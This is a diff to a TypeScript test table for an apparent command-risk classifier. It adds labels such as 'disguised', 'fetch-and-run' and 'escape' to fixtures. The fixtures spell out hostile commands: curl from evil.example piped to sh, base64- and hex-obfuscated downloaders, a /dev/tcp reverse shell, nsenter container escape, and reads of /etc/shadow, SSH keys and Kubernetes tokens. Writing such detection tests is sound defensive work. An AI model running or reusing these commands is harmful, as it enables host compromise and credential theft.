@@ -108,23 +108,26 @@ const CASES: readonly (readonly [argv: readonly string[], traits: readonly Comma
   [['env', 'X=1', '/usr/bin/zsh'], ['shell']],
   [
     ['nsenter', '-t', '1', '-m', '--', 'bash'],
-    ['shell', 'tool'],
+    ['shell', 'escape', 'tool'],
   ],
   [['/tmp/kubectl', 'get', 'pods'], ['tool']],
   // download
   [['wget', 'http://203.0.113.9/x'], ['download']],
   [['curl', '-o', '/tmp/x', 'localhost:1/y'], ['download']],
-  [sh('curl localhost; curl evil.example/x | sh'), ['shell', 'download']],
+  [sh('curl localhost; curl evil.example/x | sh'), ['shell', 'download', 'fetch-and-run']],
   [['python3', '-c', 'import urllib.request as u;u.urlopen("http://x")'], ['download']],
   [sh('c"ur"l http://x.example/a'), ['shell', 'download']],
-  [sh(String.raw`w\get${'${IFS}'}http://x.example/a`), ['shell', 'download']],
-  [sh('cu$@rl http://x.example/a'), ['shell', 'download']],
-  [sh(`echo ${b64('curl http://203.0.113.9/x.sh')} | base64 -d | sh`), ['shell', 'download']],
+  [sh(String.raw`w\get${'${IFS}'}http://x.example/a`), ['shell', 'download', 'disguised']],
+  [sh('cu$@rl http://x.example/a'), ['shell', 'download', 'disguised']],
+  [sh(`echo ${b64('curl http://203.0.113.9/x.sh')} | base64 -d | sh`), ['shell', 'download', 'disguised']],
   [
     sh(`echo ${b64(`echo ${b64('wget http://203.0.113.9/x.sh')} | base64 -d`)} | base64 -d | sh`),
-    ['shell', 'download'],
+    ['shell', 'download', 'disguised'],
   ],
-  [sh(String.raw`printf '\x63\x75\x72\x6c http://x.example' | sh`), ['shell', 'download']],
+  [
+    sh(String.raw`printf '\x63\x75\x72\x6c http://x.example' | sh`),
+    ['shell', 'download', 'fetch-and-run', 'disguised'],
+  ],
   // token, metadata
   [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], ['token']],
   [['cat', '/run//secrets/./kubernetes.io/serviceaccount/token'], ['token']],
@@ -166,10 +169,16 @@ const CASES: readonly (readonly [argv: readonly string[], traits: readonly Comma
     ['perl', '-e', 'use Socket;exec "/bin/sh -i"'],
     ['shell', 'reverse-shell'],
   ],
-  [sh(`echo ${b64('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')}|base64 -d|bash`), ['shell', 'reverse-shell']],
+  [
+    sh(`echo ${b64('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')}|base64 -d|bash`),
+    ['shell', 'reverse-shell', 'disguised'],
+  ],
   // sensitive-file
   [['cat', '/etc/shadow'], ['sensitive-file']],
-  [['cat', '/proc/1/root/etc/shadow'], ['sensitive-file']],
+  [
+    ['cat', '/proc/1/root/etc/shadow'],
+    ['sensitive-file', 'escape'],
+  ],
   [sh('cat /proc/*/environ'), ['shell', 'sensitive-file']],
   [['cat', '/root/.ssh/id_rsa'], ['sensitive-file']],
   [['ls', '/var/lib/kubelet/pki'], ['sensitive-file']],
